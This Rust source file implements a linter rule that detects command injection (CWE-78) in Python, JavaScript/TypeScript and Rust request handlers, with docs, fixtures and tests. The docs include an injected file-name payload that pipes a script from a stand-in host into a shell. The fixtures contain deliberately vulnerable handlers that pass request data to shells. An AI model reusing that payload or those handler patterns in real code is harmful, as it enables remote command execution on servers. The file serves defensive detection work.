//! `command-injection`: a request handler runs a shell command built from
//! request data, or starts a program the request names, in Python,
//! JavaScript/TypeScript and Rust.
//!
//! Two shapes are reported. A shell parses the string it is given, so any
//! request data in a shell command line can add commands (`os.system`,
//! `shell=True`, `child_process.exec`, `sh -c …`). And a program chosen by
//! the client (`subprocess.run([request.json["tool"], …])`,
//! `Command::new(tool)`) is arbitrary execution without any shell. An
//! argument list with a fixed program and no shell is the fix, so it is
//! never reported, whatever its other arguments hold.

use redflag_diagnostics::{Confidence, Severity};
use redflag_syntax::tree_sitter::Node;
use redflag_syntax::{FileKind, Language};

use crate::rule::{Diagnostic, NodeContext, Rule, RuleMeta};
use crate::semantics::paths::is_test_or_example;
use crate::semantics::request_data::Origin;
use crate::semantics::rust_in_test_code;
use crate::semantics::sinks::{
    argument, arguments, callee, keyword, literal_text, local_value, method_name, positional,
    property, receiver, sink_scope, SinkScope,
};
use crate::source::SourceFile;

pub(crate) fn rule() -> Box<dyn Rule> {
    Box::new(CommandInjection { meta: meta() })
}

struct CommandInjection {
    meta: RuleMeta,
}

/// Longest method chain read after `Command::new(…)`.
const MAX_CHAIN: usize = 64;

/// What request data controls.
enum Control {
    /// A command line a shell parses.
    Shell,
    /// The command line of a shell run from an argument vector
    /// (`["sh", "-c", line]`): the shell and its flag.
    ShellArgv(String, String),
    /// The program that runs (or a whole command line split into one
    /// without a shell).
    Program,
}

/// Program names that run their `-c` argument as a shell command line.
fn is_shell(program: &str) -> bool {
    let base = program.rsplit(['/', '\\']).next().unwrap_or(program);
    let base = base.strip_suffix(".exe").unwrap_or(base);
    matches!(
        base.to_ascii_lowercase().as_str(),
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "fish" | "cmd" | "powershell" | "pwsh"
    )
}

/// The flag after which a shell reads its command line: `-c`, combined
/// short flags ending in `c` (`-lc`, `-ec`), `/c` and `/k` for `cmd`,
/// `-Command` for PowerShell.
fn is_command_flag(flag: &str) -> bool {
    if matches!(flag, "/c" | "/C" | "/k" | "/K") || flag.eq_ignore_ascii_case("-command") {
        return true;
    }
    flag.strip_prefix('-').is_some_and(|letters| {
        !letters.is_empty()
            && letters.len() <= 4
            && letters.ends_with('c')
            && letters.chars().all(|c| c.is_ascii_alphabetic())
    })
}

/// Judges an argument vector (program first): the client's program, or a
/// shell's command line built from request data. A fixed program with
/// request data among its other arguments is the fix and gives `None`.
fn judge_argv(
    file: &SourceFile,
    scope: &SinkScope<'_>,
    elements: &[Node<'_>],
) -> Option<(Control, Origin)> {
    let program = elements.first()?;
    if let Some(origin) = scope.origin(file, *program) {
        return Some((Control::Program, origin));
    }
    let name = literal_text(file, *program)?;
    if !is_shell(name) {
        return None;
    }
    // The command line is the element right after the flag; later ones
    // are the script's `$0`, `$1`, … and are not parsed as commands.
    let flag = elements
        .iter()
        .position(|e| literal_text(file, *e).is_some_and(is_command_flag))?;
    let command = elements.get(flag + 1)?;
    let flag = literal_text(file, elements[flag]).unwrap_or("-c").to_string();
    scope
        .origin(file, *command)
        .map(|origin| (Control::ShellArgv(name.to_string(), flag), origin))
}

/// The elements of a list/array literal, or of the literal a local name
/// was bound to (`args = ["convert", name]`), or of the list on the left
/// of `+` (`["tar", "-czf", out] + paths`).
fn argv_elements<'t>(
    file: &SourceFile,
    scope: &SinkScope<'t>,
    expression: Node<'t>,
    call: Node<'_>,
) -> Option<Vec<Node<'t>>> {
    let mut current = expression;
    for _ in 0..4 {
        match current.kind() {
            "list" | "tuple" | "array" | "array_expression" => {
                let mut cursor = current.walk();
                return Some(
                    current
                        .named_children(&mut cursor)
                        .filter(|c| c.kind() != "comment")
                        .collect(),
                );
            }
            "binary_operator" | "binary_expression" => {
                current = current.child_by_field_name("left")?;
            }
            "parenthesized_expression" | "reference_expression" => {
                current = current
                    .child_by_field_name("value")
                    .or_else(|| current.named_child(0))?;
            }
            "identifier" => {
                current = local_value(
                    file,
                    scope.handler.node,
                    file.text_of(current),
                    call.start_byte(),
                )?;
            }
            _ => return None,
        }
    }
    None
}

/// Python: the value of a keyword argument is the literal `True`.
fn is_true(file: &SourceFile, node: Option<Node<'_>>) -> bool {
    node.is_some_and(|n| matches!(file.text_of(n), "True" | "true"))
}

/// Reports request data reaching a command sink.
fn report(
    ctx: &mut NodeContext<'_>,
    node: Node<'_>,
    api: &str,
    control: &Control,
    origin: &Origin,
    help: &str,
) {
    let api = match control {
        Control::ShellArgv(shell, flag) => match ctx.language() {
            Language::Python => format!("{api}([\"{shell}\", \"{flag}\", …])"),
            Language::Rust => format!("Command::new(\"{shell}\").arg(\"{flag}\")"),
            _ => format!("{api}(\"{shell}\", [\"{flag}\", …])"),
        },
        _ => api.to_string(),
    };
    let message = match control {
        Control::Shell | Control::ShellArgv(..) => format!(
            "`{api}` runs a shell command built from the {} {}: shell syntax in it (`;`, `|`, `$(…)`) runs as commands on the server",
            origin.kind.noun(),
            origin.describe()
        ),
        Control::Program => format!(
            "`{api}` runs a program named by the {} {}: the client chooses what executes on the server",
            origin.kind.noun(),
            origin.describe()
        ),
    };
    ctx.report(Diagnostic::new(node.byte_range(), message).help(help));
}

// ---------------------------------------------------------------- Python

const PY_HELP: &str = "pass an argument list without a shell, with the program fixed in code: `subprocess.run([\"convert\", name, \"out.png\"], check=True)` gives each item to the program as one argument, never parsed by a shell; put `--` before client values so they cannot be read as options, and pick programs the client may choose from a fixed dict";

/// Python functions that hand their first argument to a shell.
const PY_SHELL: &[&str] = &[
    "os.system",
    "os.popen",
    "os.popen2",
    "os.popen3",
    "os.popen4",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
    "commands.getstatusoutput",
    "asyncio.create_subprocess_shell",
    "platform.popen",
];

/// `subprocess` functions that take an argument vector, or a shell
/// command line with `shell=True`.
const PY_SUBPROCESS: &[&str] = &[
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
];

fn check_python(node: Node<'_>, ctx: &mut NodeContext<'_>) {
    let file = ctx.file;
    let Some((_, resolved)) = callee(file, Language::Python, node) else {
        return;
    };
    let resolved = resolved.as_str();
    let shell = PY_SHELL.contains(&resolved);
    let subprocess = PY_SUBPROCESS.contains(&resolved);
    let exec = resolved == "asyncio.create_subprocess_exec";
    let pexpect = matches!(resolved, "pexpect.spawn" | "pexpect.run" | "pexpect.spawnu");
    if !(shell || subprocess || exec || pexpect) {
        return;
    }
    let Some(scope) = sink_scope(file, ctx.ancestors) else {
        return;
    };
    let found = if shell {
        argument(file, node, 0, "cmd")
            .or_else(|| keyword(file, node, "command"))
            .and_then(|c| scope.origin(file, c))
            .map(|o| (Control::Shell, o))
    } else if subprocess {
        let Some(args) = argument(file, node, 0, "args") else {
            return;
        };
        if is_true(file, keyword(file, node, "shell")) {
            // With a list, the shell runs the first item; the others are
            // its `$0`, `$1`, … and are not parsed.
            let line = match args.kind() {
                "list" | "tuple" => args.named_child(0).unwrap_or(args),
                _ => args,
            };
            scope.origin(file, line).map(|o| (Control::Shell, o))
        } else if let Some(elements) = argv_elements(file, &scope, args, node) {
            judge_argv(file, &scope, &elements)
        } else {
            // A string or a value split from one: the client's command
            // line, program included.
            scope.origin(file, args).map(|o| (Control::Program, o))
        }
    } else if exec {
        let elements: Vec<Node<'_>> = arguments(node)
            .into_iter()
            .filter(|a| a.kind() != "keyword_argument")
            .collect();
        judge_argv(file, &scope, &elements)
    } else {
        positional(node, 0)
            .and_then(|c| scope.origin(file, c))
            .map(|o| (Control::Program, o))
    };
    if let Some((control, origin)) = found {
        let api = if subprocess && is_true(file, keyword(file, node, "shell")) {
            format!("{resolved}(…, shell=True)")
        } else {
            resolved.to_string()
        };
        report(ctx, node, &api, &control, &origin, PY_HELP);
    }
}

// ---------------------------------------------------------------- JS / TS

const JS_HELP: &str = "run the program without a shell and pass client values as separate arguments: `execFile(\"convert\", [name, \"out.png\"], cb)` or `spawn(\"convert\", [\"--\", name])`; never `exec`/`execSync` a string that holds request data, never `shell: true`, and pick programs the client may choose from a fixed map";

/// The `child_process`/`shelljs`/`execa` function a resolved JS path
/// names.
fn js_known_api(path: &str) -> Option<&str> {
    let path = path.trim();
    matches!(
        path,
        "child_process.exec"
            | "child_process.execSync"
            | "child_process.spawn"
            | "child_process.spawnSync"
            | "child_process.execFile"
            | "child_process.execFileSync"
            | "shelljs.exec"
            | "execa"
            | "execa.execa"
            | "execa.sync"
            | "execa.execaSync"
            | "execa.command"
            | "execa.commandSync"
            | "execa.execaCommand"
            | "execa.execaCommandSync"
    )
    .then_some(path)
}

/// Names bound to a promisified command function in a file
/// (`const run = promisify(exec)`, `const sh = util.promisify(cp.exec)`),
/// with the API they wrap.
fn js_promisified(file: &SourceFile) -> Vec<(String, String)> {
    let text = file.text.as_str();
    let mut found = Vec::new();
    let mut from = 0;
    while let Some(at) = text.get(from..).and_then(|rest| rest.find("promisify(")) {
        let start = from + at;
        from = start + "promisify(".len();
        let before = text[..start].strip_suffix("util.").unwrap_or(&text[..start]);
        let Some(before) = before.trim_end().strip_suffix('=') else {
            continue;
        };
        if before.ends_with(['=', '!', '<', '>']) {
            continue;
        }
        let before = before.trim_end();
        let name_start = before
            .rfind(|c: char| !(c.is_alphanumeric() || c == '_' || c == '$'))
            .map_or(0, |i| i + 1);
        let name = &before[name_start..];
        let inner = text[from..].split(')').next().unwrap_or("");
        let wrapped = file.imports().resolve(inner.trim());
        if let (false, Some(api)) = (name.is_empty(), js_known_api(&wrapped)) {
            found.push((name.to_string(), format!("promisify({api})")));
        }
    }
    found
}

/// A file's identity (path, text address, length) and its promisified
/// command functions.
type PromisifiedCache = Option<(String, usize, usize, std::rc::Rc<Vec<(String, String)>>)>;

thread_local! {
    /// The promisified names of the file being checked on this thread:
    /// every plain call in the file asks.
    static PROMISIFIED: std::cell::RefCell<PromisifiedCache> = const { std::cell::RefCell::new(None) };
}

/// The command API a JS callee names, following `promisify(exec)`.
fn js_command_api(file: &SourceFile, resolved: &str) -> Option<String> {
    if let Some(api) = js_known_api(resolved) {
        return Some(api.to_string());
    }
    if resolved.contains('.') || !file.text.contains("promisify(") {
        return None;
    }
    let names = PROMISIFIED.with(|cell| {
        let mut cache = cell.borrow_mut();
        let key = (file.path.as_str(), file.text.as_ptr() as usize, file.text.len());
        match cache.as_ref() {
            Some((path, at, len, names)) if (path.as_str(), *at, *len) == key => {
                std::rc::Rc::clone(names)
            }
            _ => {
                let names = std::rc::Rc::new(js_promisified(file));
                *cache = Some((file.path.clone(), key.1, key.2, std::rc::Rc::clone(&names)));
                names
            }
        }
    });
    names
        .iter()
        .find(|(name, _)| name == resolved)
        .map(|(_, api)| api.clone())
}

fn check_js(node: Node<'_>, ctx: &mut NodeContext<'_>, language: Language) {
    let file = ctx.file;
    let Some((_, resolved)) = callee(file, language, node) else {
        return;
    };
    let Some(api) = js_command_api(file, &resolved) else {
        return;
    };
    let Some(scope) = sink_scope(file, ctx.ancestors) else {
        return;
    };
    let bare = api
        .trim_start_matches("promisify(")
        .trim_end_matches(')')
        .rsplit('.')
        .next()
        .unwrap_or("");
    let args = arguments(node);
    let found = match bare {
        "exec" | "execSync" if !api.contains("execa") => args
            .first()
            .and_then(|c| scope.origin(file, *c))
            .map(|o| (Control::Shell, o)),
        "command" | "commandSync" | "execaCommand" | "execaCommandSync" => args
            .first()
            .and_then(|c| scope.origin(file, *c))
            .map(|o| (Control::Program, o)),
        _ => {
            // `spawn(file, args?, options?)` and its relatives.
            let list = args.get(1).filter(|a| a.kind() != "object");
            let options = args.iter().skip(1).find(|a| a.kind() == "object");
            let shell_on = options
                .and_then(|o| property(file, *o, "shell"))
                .is_some_and(|v| !matches!(file.text_of(v), "false" | "undefined" | "null"));
            if shell_on {
                args.first()
                    .and_then(|p| scope.origin(file, *p))
                    .or_else(|| list.and_then(|l| scope.origin(file, *l)))
                    .map(|o| (Control::Shell, o))
            } else {
                let mut elements: Vec<Node<'_>> = args.first().copied().into_iter().collect();
                if let Some(list) = list {
                    elements.extend(argv_elements(file, &scope, *list, node).unwrap_or_default());
                }
                judge_argv(file, &scope, &elements)
            }
        }
    };
    if let Some((control, origin)) = found {
        report(ctx, node, &api, &control, &origin, JS_HELP);
    }
}

// ---------------------------------------------------------------- Rust

const RUST_HELP: &str = "run the program itself with each client value as one argument: `Command::new(\"convert\").arg(\"--\").arg(&name).arg(\"out.png\")` — no `sh -c`, no string joined for a shell; pick programs the client may choose from a fixed `match` in code";

/// The arguments given to a command in order: `.arg(x)` items and the
/// elements of `.args([...])`, read from the builder chain on `new_call`
/// and, when the command is bound to a local (`let mut cmd = …`), from
/// calls on that local in the handler.
fn rust_command_arguments<'t>(
    file: &SourceFile,
    new_call: Node<'t>,
    ancestors: &[Node<'t>],
    scope: &SinkScope<'t>,
) -> Vec<Node<'t>> {
    let mut calls: Vec<Node<'t>> = Vec::new();
    let mut current = new_call;
    let mut depth = ancestors.len();
    for _ in 0..MAX_CHAIN {
        let (Some(field), Some(call)) = (
            depth.checked_sub(1).and_then(|i| ancestors.get(i)),
            depth.checked_sub(2).and_then(|i| ancestors.get(i)),
        ) else {
            break;
        };
        if field.kind() != "field_expression"
            || field.child_by_field_name("value") != Some(current)
            || call.kind() != "call_expression"
        {
            break;
        }
        calls.push(*call);
        current = *call;
        depth -= 2;
    }
    // `let mut cmd = Command::new("sh");` then `cmd.arg("-c").arg(line);`.
    let parent = depth.checked_sub(1).and_then(|i| ancestors.get(i));
    let local = parent
        .filter(|p| p.kind() == "let_declaration")
        .and_then(|p| p.child_by_field_name("pattern"))
        .filter(|p| p.kind() == "identifier")
        .map(|p| file.text_of(p).to_string());
    if let Some(local) = local {
        crate::semantics::walk(scope.handler.node, |node| {
            if node.kind() == "call_expression" && node.start_byte() > new_call.end_byte() {
                let mut root = receiver(node);
                for _ in 0..MAX_CHAIN {
                    match root {
                        Some(r) if r.kind() == "call_expression" => root = receiver(r),
                        _ => break,
                    }
                }
                if root.is_some_and(|r| r.kind() == "identifier" && file.text_of(r) == local) {
                    calls.push(node);
                }
            }
            true
        });
    }
    // Source order of the method names: an outer chain call starts where
    // its inner one does.
    calls.sort_by_key(|c| {
        c.child_by_field_name("function")
            .and_then(|f| f.child_by_field_name("field"))
            .map_or(c.start_byte(), |f| f.start_byte())
    });
    let mut items = Vec::new();
    for call in calls {
        let Some(first) = positional(call, 0) else {
            continue;
        };
        match method_name(file, call) {
            Some("arg") => items.push(first),
            Some("args") => {
                let mut inner = first;
                while matches!(inner.kind(), "reference_expression") {
                    match inner.child_by_field_name("value") {
                        Some(v) => inner = v,
                        None => break,
                    }
                }
                if matches!(inner.kind(), "array_expression") {
                    let mut cursor = inner.walk();
                    items.extend(inner.named_children(&mut cursor));
                } else if inner.kind() == "macro_invocation" {
                    // `vec!["-c", line]`
                    if let Some(tokens) = inner.named_children(&mut inner.walk()).last() {
                        let mut cursor = tokens.walk();
                        items.extend(
                            tokens
                                .named_children(&mut cursor)
                                .filter(|t| !t.is_extra()),
                        );
                    }
                } else {
                    items.push(inner);
                }
            }
            _ => {}
        }
    }
    items
}

fn check_rust(node: Node<'_>, ctx: &mut NodeContext<'_>) {
    let file = ctx.file;
    let Some((written, resolved)) = callee(file, Language::Rust, node) else {
        return;
    };
    if !written.ends_with("Command::new") {
        return;
    }
    let process = resolved.contains("process::Command") || file.text.contains("process::");
    if !process || rust_in_test_code(file, ctx.ancestors) {
        return;
    }
    let Some(program) = positional(node, 0) else {
        return;
    };
    let Some(scope) = sink_scope(file, ctx.ancestors) else {
        return;
    };
    if let Some(origin) = scope.origin(file, program) {
        report(ctx, node, "Command::new", &Control::Program, &origin, RUST_HELP);
        return;
    }
    let Some(name) = literal_text(file, program) else {
        return;
    };
    if !is_shell(name) {
        return;
    }
    let items = rust_command_arguments(file, node, ctx.ancestors, &scope);
    let mut elements = vec![program];
    elements.extend(items);
    if let Some((control, origin)) = judge_argv(file, &scope, &elements) {
        report(ctx, node, "Command::new", &control, &origin, RUST_HELP);
    }
}

impl Rule for CommandInjection {
    fn meta(&self) -> &RuleMeta {
        &self.meta
    }

    /// Tests and examples run the commands they choose.
    fn applies_to(&self, path: &str) -> bool {
        !is_test_or_example(path)
    }

    fn prefilter(&self, language: Language) -> Option<Vec<Vec<String>>> {
        let words: &[&str] = match language {
            Language::Python => &[
                "system",
                "popen",
                "subprocess",
                "getoutput",
                "pexpect",
                "create_subprocess",
            ],
            Language::Rust => &["Command"],
            _ => &["child_process", "shelljs", "execa"],
        };
        Some(vec![words.iter().map(|w| (*w).to_string()).collect()])
    }

    fn node_kinds(&self, language: Language) -> Vec<String> {
        let kind = if language == Language::Python {
            "call"
        } else {
            "call_expression"
        };
        vec![kind.to_string()]
    }

    fn check_node(&self, node: Node<'_>, ctx: &mut NodeContext<'_>) {
        match ctx.language() {
            Language::Python => check_python(node, ctx),
            Language::Rust => check_rust(node, ctx),
            language => check_js(node, ctx, language),
        }
    }
}

const DOCS: &str = r#"
## What it does
Finds request handlers that run a shell command built from request data,
or start a program the request names. Python: `os.system`, `os.popen`,
`subprocess.getoutput`, `asyncio.create_subprocess_shell`, and
`subprocess.run/call/check_call/check_output/Popen` with `shell=True`; an
argument list whose program is request data or that runs `sh -c`/`bash -c`
with a request-built command line (`subprocess.run(["sh", "-c", cmd])`,
`asyncio.create_subprocess_exec("bash", "-c", cmd)`); `pexpect.spawn/run`.
JavaScript/TypeScript: `child_process.exec`/`execSync` (also through
`util.promisify`), `spawn`/`spawnSync`/`execFile`/`execFileSync` with
`shell: true`, a request-chosen program or `spawn("sh", ["-c", cmd])`;
`shelljs.exec`; execa with `shell: true`, a request-chosen program, or
`execaCommand`. Rust: `std::process::Command` / `tokio::process::Command`
with `Command::new(program_from_request)`, or `Command::new("sh")` (`bash`,
`cmd`, `powershell`, …) whose `-c` / `/C` argument is built from request
data, in the builder chain or on the local it is bound to.

Request data is what the handler reads from the request (body, query,
path parameters, headers, cookies, uploaded files, framework-bound route
parameters and extractors) and local values built from it; see the shared
request-data flow.

## Why it matters
Checklist TASK-3.1 and red flag RF-2 (request input used without
validation), CWE-78. A shell parses the whole string: a file name of
`x.png; curl evil.sh | sh` runs a second command with the service's
identity, its secrets and its network. Escaping by hand misses a quote
style or an expansion; a program chosen by the client needs no escape at
all.

## Example
```python
@app.post("/thumbnail")
def thumbnail():
    name = request.json["file"]
    os.system(f"convert uploads/{name} -resize 200x200 thumbs/{name}")
```

## Use instead
```python
@app.post("/thumbnail")
def thumbnail():
    name = secure_filename(request.json["file"])
    subprocess.run(["convert", f"uploads/{name}", "-resize", "200x200", f"thumbs/{name}"], check=True)
```
```ts
execFile("convert", [`uploads/${name}`, "-resize", "200x200", `thumbs/${name}`], callback);
```
```rust
Command::new("convert").arg(format!("uploads/{name}")).arg("-resize").arg("200x200").output()
```
An argument list with a fixed program is never reported: no shell reads
it. Put `--` before client values so they cannot be taken as options, and
map a client's choice of tool to a fixed program in code.

## Configuration
Select or ignore it by name, `TASK-3.1` or `RF-2`. Tests and examples are
not checked. Not seen: data that reaches the command through a helper
function, another file, a class attribute or a database row; option
injection into a fixed program (`git clone --upload-pack=…`, CWE-88);
`shlex.split(request_text)` and other command lines rebuilt through a
call; `os.exec*`/`os.spawn*`; `duct`, `xshell` and `std::process::Command`
values passed between functions.

A check that the value is one of an allow-list (`if cmd not in ALLOWED:
abort(400)`) is not read: a call guarded that way is reported; suppress it
with `# redflag: ignore[command-injection] <the guard>`.
"#;

fn meta() -> RuleMeta {
    RuleMeta::new("command-injection", "TASK-3.1")
        .red_flag("RF-2")
        .severity(Severity::Error)
        .confidence(Confidence::High)
        .summary("A request handler runs a shell command built from request data, or a program the request names.")
        .kinds(&[
            FileKind::Python,
            FileKind::JavaScript,
            FileKind::TypeScript,
            FileKind::Rust,
        ])
        .tags(&["security", "injection"])
        .cwe(&["CWE-78"])
        .security_severity(9.8)
        .docs(DOCS)
        .invalid_at(
            FileKind::Python,
            "app/views.py",
            r#"
            import os
            import subprocess

            from flask import Flask, request

            app = Flask(__name__)

            @app.post("/thumbnail")
            def thumbnail():
                name = request.json["file"]
                os.system(f"convert uploads/{name} -resize 200x200 thumbs/{name}")
                return {"ok": True}

            @app.get("/ping")
            def ping():
                host = request.args.get("host", "")
                out = subprocess.check_output("ping -c 1 " + host, shell=True, timeout=5)
                return out

            @app.post("/archive")
            def archive():
                target = request.form["dir"]
                subprocess.run(["bash", "-c", f"tar -czf /tmp/out.tgz {target}"], check=True)
                return {"ok": True}
            "#,
            3,
        )
        .invalid_at(
            FileKind::Python,
            "app/api.py",
            r#"
            import asyncio
            from fastapi import FastAPI
            from pydantic import BaseModel

            app = FastAPI()

            class Job(BaseModel):
                tool: str
                target: str

            @app.post("/jobs")
            async def run_job(job: Job):
                proc = await asyncio.create_subprocess_exec(job.tool, job.target)
                return {"pid": proc.pid}
            "#,
            1,
        )
        .valid_at(
            FileKind::Python,
            "app/views.py",
            r#"
            import subprocess
            from flask import Flask, request
            from werkzeug.utils import secure_filename

            app = Flask(__name__)

            @app.post("/thumbnail")
            def thumbnail():
                name = secure_filename(request.json["file"])
                subprocess.run(["convert", f"uploads/{name}", "-resize", "200x200", f"thumbs/{name}"], check=True)
                args = ["tar", "-czf", "/tmp/out.tgz", "--"]
                args.append(request.form["dir"])
                subprocess.run(args, check=True)
                subprocess.run("nightly-cleanup --dry-run", shell=True, check=True)
                return {"ok": True}

            def rebuild_index():
                subprocess.run("reindex --all", shell=True, check=True)
            "#,
        )
        .invalid_at(
            FileKind::TypeScript,
            "src/routes/tools.ts",
            r#"
            import express from "express";
            import { exec, spawn } from "node:child_process";
            import { promisify } from "node:util";

            const run = promisify(exec);
            const router = express.Router();

            router.post("/ping", (req, res) => {
              const { host } = req.body;
              exec(`ping -c 1 ${host}`, (err, stdout) => res.send(stdout));
            });

            router.get("/grep", async (req, res) => {
              const { stdout } = await run("grep -r " + req.query.q + " /srv/docs");
              res.send(stdout);
            });

            router.post("/convert", (req, res) => {
              const child = spawn("convert", [req.body.input, "out.png"], { shell: true });
              child.on("close", (code) => res.json({ code }));
            });

            export default router;
            "#,
            3,
        )
        .invalid_at(
            FileKind::JavaScript,
            "src/server.js",
            r#"
            const express = require("express");
            const { spawn } = require("child_process");
            const shell = require("shelljs");

            const app = express();

            app.post("/deploy", (req, res) => {
              const branch = req.body.branch;
              spawn("sh", ["-c", `git checkout ${branch} && make deploy`]);
              shell.exec("git log " + req.query.range);
              res.sendStatus(202);
            });
            "#,
            2,
        )
        .valid_at(
            FileKind::TypeScript,
            "src/routes/tools.ts",
            r#"
            import express from "express";
            import { execFile, exec, spawn } from "node:child_process";

            const router = express.Router();

            router.post("/convert", (req, res) => {
              const { input } = req.body;
              execFile("convert", ["--", input, "out.png"], (err) => res.json({ ok: !err }));
              spawn("sh", ["-c", 'convert "$1" out.png', "sh", input]);
              exec("git rev-parse HEAD", (err, sha) => res.json({ sha }));
            });

            export default router;
            "#,
        )
        .invalid_at(
            FileKind::Rust,
            "src/handlers.rs",
            r#"
            use std::collections::HashMap;
            use std::process::Command;

            use axum::extract::{Json, Query};
            use serde::Deserialize;

            #[derive(Deserialize)]
            pub struct Convert {
                input: String,
                tool: String,
            }

            pub async fn thumbnail(Query(params): Query<HashMap<String, String>>) -> String {
                let name = params.get("file").cloned().unwrap_or_default();
                let out = Command::new("sh")
                    .arg("-c")
                    .arg(format!("convert uploads/{name} thumbs/{name}"))
                    .output()
                    .expect("convert");
                String::from_utf8_lossy(&out.stdout).into_owned()
            }

            pub async fn convert(Json(job): Json<Convert>) -> String {
                let status = Command::new(&job.tool).arg(&job.input).status();
                format!("{status:?}")
            }
            "#,
            2,
        )
        .valid_at(
            FileKind::Rust,
            "src/handlers.rs",
            r#"
            use std::collections::HashMap;
            use std::process::Command;

            use axum::extract::Query;

            pub async fn thumbnail(Query(params): Query<HashMap<String, String>>) -> String {
                let name = params.get("file").cloned().unwrap_or_default();
                let out = Command::new("convert")
                    .arg("--")
                    .arg(format!("uploads/{name}"))
                    .arg(format!("thumbs/{name}"))
                    .output()
                    .expect("convert");
                let _ = Command::new("sh").arg("-c").arg("df -h /srv").output();
                String::from_utf8_lossy(&out.stdout).into_owned()
            }
            "#,
        )
}

#[cfg(test)]
mod tests {
    use crate::engine::findings_of_rule;
    use redflag_syntax::FileKind;

    fn findings(path: &str, kind: FileKind, code: &str) -> Vec<String> {
        findings_of_rule("command-injection", path, kind, code)
            .into_iter()
            .map(|f| f.message)
            .collect()
    }

    #[test]
    fn messages_name_the_sink_and_the_request_data() {
        let found = findings(
            "app/views.py",
            FileKind::Python,
            r#"
            import os
            from flask import request

            @app.post("/run")
            def run():
                cmd = request.json["cmd"]
                os.system(cmd)
            "#,
        );
        assert_eq!(found.len(), 1, "{found:#?}");
        assert!(
            found[0].starts_with(
                "`os.system` runs a shell command built from the request body `request.json` (via `cmd`)"
            ),
            "{}",
            found[0]
        );
    }

    #[test]
    fn outside_a_handler_and_with_constant_commands_nothing_is_reported() {
        let code = r#"
            import os
            import subprocess

            def backup(path):
                os.system("tar -czf /backups/db.tgz " + path)

            @app.post("/backup")
            def start_backup():
                label = request.json["label"]
                os.system("tar -czf /backups/db.tgz /var/lib/db")
                subprocess.run(["tar", "-czf", f"/backups/{label}.tgz", "/var/lib/db"], check=True)
                return {"ok": True}
        "#;
        assert!(findings("app/views.py", FileKind::Python, code).is_empty());
    }

    #[test]
    fn shell_positional_parameters_are_not_the_command_line() {
        let code = r#"
            @app.post("/convert")
            def convert():
                name = request.form["name"]
                subprocess.run(["sh", "-c", 'convert "$1" out.png', "sh", name], check=True)
                subprocess.run(["sh", "-c", "convert " + name + " out.png"], check=True)
        "#;
        let found = findings("app/views.py", FileKind::Python, code);
        assert_eq!(found.len(), 1, "{found:#?}");
    }

    #[test]
    fn execa_and_promisified_exec_through_util() {
        let code = r#"
            import util from "node:util";
            import * as cp from "node:child_process";
            import { execa, execaCommand } from "execa";

            const sh = util.promisify(cp.exec);

            export async function POST(request: Request) {
              const { file, line } = await request.json();
              await sh(`wc -l ${file}`);
              await execaCommand(line);
              await execa("wc", ["-l", file]);
              await execa("wc", ["-l", file], { shell: true });
              return Response.json({ ok: true });
            }
        "#;
        let found = findings("app/api/count/route.ts", FileKind::TypeScript, code);
        let apis: Vec<&str> = found
            .iter()
            .map(|m| m.split('`').nth(1).unwrap_or(""))
            .collect();
        assert_eq!(
            apis,
            [
                "promisify(child_process.exec)",
                "execa.execaCommand",
                "execa.execa"
            ],
            "{found:#?}"
        );
    }

    #[test]
    fn rust_shell_bound_to_a_local_and_windows_cmd() {
        let code = r#"
            use std::process::Command;
            use axum::extract::Json;

            pub async fn run(Json(body): Json<Body>) -> String {
                let line = body.line;
                let mut cmd = Command::new("cmd");
                cmd.args(["/C", &line]);
                let out = cmd.output().unwrap();
                String::new()
            }
        "#;
        let found = findings("src/api.rs", FileKind::Rust, code);
        assert_eq!(found.len(), 1, "{found:#?}");
        assert!(found[0].starts_with("`Command::new(\"cmd\").arg(\"/C\")` runs a shell command built from the request body"), "{}", found[0]);
    }
}
